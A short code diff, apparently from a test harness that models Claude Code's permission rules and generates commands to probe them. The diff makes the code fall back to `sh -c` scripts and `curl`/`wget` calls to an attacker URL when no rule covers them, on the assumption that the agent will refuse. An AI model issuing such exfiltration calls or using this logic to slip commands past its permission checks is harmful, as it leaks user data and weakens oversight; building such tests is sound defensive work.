@@ -165,7 +165,9 @@ function bash(command: string | undefined): MadeCall | undefined {
  */
 function commandFor(goal: Goal, { model, mark }: Ground): string | undefined {
   const script = scriptFor(goal, mark);
-  if (runsEverythingAnywhere(model)) return `sh -c '${script}'`;
+  // Where no rule lets one run, Claude Code itself shall refuse it.
+  const isAsked = interpreterRules(model).length === 0;
+  if (isAsked || runsEverythingAnywhere(model)) return `sh -c '${script}'`;
   for (const rule of interpreterRules(model)) {
     const [program = ""] = commandOf(rule);
     const command = interpreters[program]?.(program, script);
@@ -216,8 +218,9 @@ function plain(path: string): string {
 function sendWith(goal: Goal, model: ClaudeCodeModel): string | undefined {
   if (goal.do !== "send") return undefined;
   const url = attackerUrl(goal.text);
-  for (const rule of openRules(model)) {
-    const [program = ""] = commandOf(rule);
+  const programs = openRules(model).map((rule) => commandOf(rule)[0] ?? "");
+  // As above.
+  for (const program of programs.length === 0 ? ["curl"] : programs) {
     if (program === "curl") return `curl -s ${url}`;
     if (program === "wget") return `wget -qO- ${url}`;
   }
